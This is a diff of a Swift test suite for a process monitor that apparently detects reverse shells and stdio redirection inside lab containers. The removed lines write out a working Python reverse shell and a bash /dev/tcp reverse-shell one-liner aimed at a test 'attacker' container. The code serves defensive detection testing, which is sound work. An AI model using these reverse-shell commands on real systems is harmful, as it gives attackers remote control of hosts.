@@ -49,7 +49,7 @@ struct ProcessMonitorTests {
         func reverseShell(running command: String) throws -> Shell.Result {
             try lab.exec(
                 in: container,
-                ProcessMonitorTests.pythonExecs(["bash", "-c", command], connectedTo: attacker.ipv4, port: Self.listenerPort), check: false)
+                ReverseShells.pythonExecs(["bash", "-c", command], connectedTo: attacker.ipv4, port: Self.listenerPort), check: false)
         }
 
         func execs(named comm: String) throws -> [ExecRecord] {
@@ -57,15 +57,6 @@ struct ProcessMonitorTests {
                 if case .exec(let record) = event, record.comm == comm { record } else { nil }
             }
         }
-    }
-
-    /// python connects, makes the connection its fds 0-2 and execs `program`.
-    static func pythonExecs(_ program: [String], connectedTo address: String, port: UInt16) -> [String] {
-        let arguments = program.map { "\"\($0)\"" }.joined(separator: ",")
-        return [
-            "python3", "-c",
-            "import socket,os;s=socket.create_connection((\"\(address)\",\(port)));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/\(program[0])\",[\(arguments)])"
-        ]
     }
 
     @Test func execsInPodsAreReportedWithContainerAndStdioAndHostExecsAreNot() throws {
@@ -125,8 +116,7 @@ struct ProcessMonitorTests {
         _ = try env.monitor.drain()
         try env.lab.exec(
             in: env.container,
-            ["bash", "-c", "exec 5<>/dev/tcp/\(env.attacker.ipv4)/\(ContainerLab.listenerPort); exec 0<&5 1>&5 2>&5; touch /shared/ran"],
-            check: false)
+            ReverseShells.selfRedirect(env.attacker.ipv4, ContainerLab.listenerPort, then: "touch /shared/ran"), check: false)
         #expect(!FileManager.default.fileExists(atPath: env.container.sharedDirectory + "/ran"))
         let redirects = try env.monitor.drain().compactMap { if case .stdioRedirect(let redirect) = $0 { redirect } else { nil } }
         let redirect = try #require(redirects.first, "no dup2 seen: \(env.monitor.redirectsUnavailable ?? "")")
